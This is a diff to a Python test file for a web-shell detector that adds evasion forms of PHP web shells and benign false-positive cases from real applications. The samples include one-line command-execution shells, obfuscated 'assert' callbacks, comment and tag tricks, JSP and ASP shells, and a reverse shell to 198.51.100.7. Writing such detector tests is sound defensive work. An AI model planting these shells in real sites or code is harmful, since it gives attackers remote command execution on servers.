@@ -1,7 +1,8 @@
 """Whether a script is a web shell, by its code: the forms that public collections have, and what well-known applications do.
 
-The forms are those that the rules missed, or accused wrongly, over 1,197 scripts of three public collections of web shells and 11,289 PHP
-files of phpBB 3.2, MyBB, DokuWiki, Roundcube, OpenCart and CodeIgniter. The samples are the project's own.
+The forms are those that the rules missed, or accused wrongly, over 1,197 scripts of three public collections of web shells and 15,000 PHP
+files of WordPress 4.2, CakePHP, Postfix Admin, phpBB 3.2, MyBB, DokuWiki, Roundcube, OpenCart, Grav and Adminer (WordPress had 28 false ones,
+a web server's log 130 uses of them). The samples are the project's own.
 """
 
 from __future__ import annotations
@@ -28,6 +29,27 @@ SHELLS = {
     "include": "<?php include($_GET['page']);",
     "reverse": "<?php $s = fsockopen('198.51.100.7', 443); $p = proc_open('/bin/sh -i', $d, $pipes);",
     "upload": "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to'] . '/' . $_FILES['f']['name']);",
+    "here document": "<?php\n$c = <<<'EOT'\n `ls` // */ \n  EOT;\n$x = $_GET['x']; system($x);",
+    "behind a comment's end": "<?php // harmless ?><?php system($_GET['x']); /* */ ?>",
+    "behind a text with a comment": "<?php $a = '/*'; system($_GET['x']); $b = '*/';",
+    "attribute": "<?php #[A]\nsystem($_GET['x']);",
+    "short tag": "<? system($_GET['x']) ?>",
+    "short echo": "<?=`$_GET[0]`?>",
+    "old tag": "<script language='php'>system($_GET['x']);</script>",
+    "function with a global": "<?php $c = $_POST['c']; function go() { global $c; passthru($c); } go();",
+    "global that a function sets": "<?php function get() { global $c; $c = $_POST['c']; } function go() { global $c; passthru($c); }",
+    "method": "<?php class A { function run($a, $cmd) { return shell_exec($cmd); } } (new A)->run(1, $_GET['c']);",
+    "closure": "<?php $c = $_GET['c']; add('x', function () use ($c) { system($c); });",
+    "never closed": "<?php system($_GET['x']); /* ",
+    "callback": "<?php array_map('assert', $_POST);",
+    "callback of another form": "<?php array_map(\"ass\\x65rt\", (array) $_REQUEST['x']);",
+    "callback that is put together": "<?php $a = join(array_diff(['s', 'a', 'ys'], ['a'])); array_map($a, (array) $_REQUEST['1']);",
+    "callback by its name": "<?php call_user_func_array(assert, array($_POST['x']));",
+    "callback in a request": "<?php call_user_func($_GET['f'], $_GET['x']);",
+    "callback by a variable": "<?php $f = trim($_POST['f']); call_user_func($f, $x);",
+    "second argument": "<?php usort($list, $_POST['f']);",
+    "input as code": "<?php include('php://input');",
+    "letters": "<?php @$_=\"s\".\"s\"./*-/*-*/\"e\".\"r\";@$_=\"a\".$_.\"t\";@$_/*-*/($/*-*/{\"_P\".\"OST\"}[0]);",
     "JSP by a variable": '<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
     "JSP by a class loader": '<% new U(this.getClass().getClassLoader()).g(b64(request.getParameter("p"))).newInstance(); class U { Class g(byte[] b) { return defineClass(b,0,b.length); } } %>',
     "ASP": '<%execute request("z")%>',
@@ -37,6 +59,18 @@ SHELLS = {
 HONEST = {
     "argv in a comment": "<?php\n/**\n * `$_SERVER['argv']` is used.\n */\nclass Input { function __construct() { $argv = $_SERVER['argv']; } }",
     "method": "<?php $db->exec($_POST['query']); $result['exec'] = Curl::exec($_GET['u']);",
+    "in a comment": "<?php\n/** Runs `$_REQUEST['action']`, see system ( $_GET ). */\n# eval($_POST)\n// assert($_GET['x'])\n$a = $_GET['a'];",
+    "documented hooks": "<?php $action = $_REQUEST['action'];\n/* The dynamic portion, `$action`, refers to it. */ do_action($action);",
+    "cleaned list": "<?php $ids = array_map( 'absint', explode( ',', $_REQUEST['ids'] ) ); $x = array_filter(array_map('trim', $_POST['a']));",
+    "backticks of SQL": "<?php $t = $_GET['t']; $r = q(\"SELECT * FROM `$t` WHERE a = 1\");",
+    "the output of a program": "<?php $retval = $_POST['x']; exec($command, $output, $retval);",
+    "another function's variable": "<?php function a() { $cmd = $_GET['cmd']; } function b() { $cmd = 'ls'; return shell_exec($cmd); }",
+    "method of an object": "<?php call_user_func(array($this, $_GET['do']));",
+    "prefix": "<?php call_user_func('do_' . $_GET['a'], 1);",
+    "registered": "<?php foreach ($_POST as $n => $form) { call_user_func_array($form['callback'], $form['params']); }",
+    "looked up": "<?php $name = $_POST['w']; foreach ($all as $n => $control) { if ($n == $name) { $cb = $control; call_user_func_array($cb, $p); } }",
+    "class by a name": "<?php $c = str_replace('.class.php', '', $file); $p = new $c('x'); $a = $_GET['a'];",
+    "page around it": "<?php $a = $_GET['a']; ?><p>system($a) `$a`</p><script>eval(location)</script>",
     "escaped": "<?php system('convert ' . escapeshellarg($_POST['file']));",
     "number": "<?php exec('kill ' . (int) $_GET['pid']);",
     "old templates": "<?php $v = $_GET['x']; eval(\"\\$level = \\\"\".$templates->get('warning_' . $v).\"\\\";\");",
@@ -59,7 +93,29 @@ def test_what_applications_do_is_not_accused(name: str) -> None:
     assert what_it_does(HONEST[name]) is None
 
 
-@pytest.mark.parametrize("padding", [" ", "(", "$a=", "function f($a){", "/*", "`", "foreach($_GET as ", "\\x65"])
+@pytest.mark.parametrize(
+    "padding",
+    [
+        *(
+            " ",
+            "(",
+            "$a=",
+            "function f($a){",
+            "/*",
+            "`",
+            "foreach($_GET as ",
+            "\\x65",
+            "<?php ?>",
+            "<<<A\n",
+            "<<<A\nA\n",
+            "'\\'",
+            "{",
+            "global $a;",
+            "//\n",
+        ),
+        *("function f($a){ global $c; system($a); ", "f(f(f(", "array_map($a, ", "system(a, "),
+    ],
+)
 def test_a_script_that_is_made_to_keep_its_reader_busy_takes_seconds(padding: str) -> None:
     began = time.process_time()
     what_it_does("<?php $_GET; " + padding * (MOST // len(padding)))
